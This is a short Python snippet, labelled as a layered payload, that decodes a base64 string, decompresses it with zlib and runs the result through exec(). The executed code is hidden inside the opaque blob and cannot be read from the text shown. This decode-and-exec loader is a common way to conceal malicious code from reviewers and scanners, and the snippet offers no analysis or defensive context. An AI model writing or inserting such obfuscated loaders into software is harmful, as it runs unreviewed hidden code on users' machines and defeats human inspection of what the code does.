# decode-exec: zlib-compressed base64 layered payload
import base64
import zlib

blob = "eJzLzC3ILypRKC3KyclM0itKLSxNLS6xTq1ITdZAFdMDcvMLUvM01DNKSgqs9PWNDIz1DPQMDY31zPWL9Qoq1TWBShNTNDQ1ATHGHIg="
exec(zlib.decompress(base64.b64decode(blob)).decode())
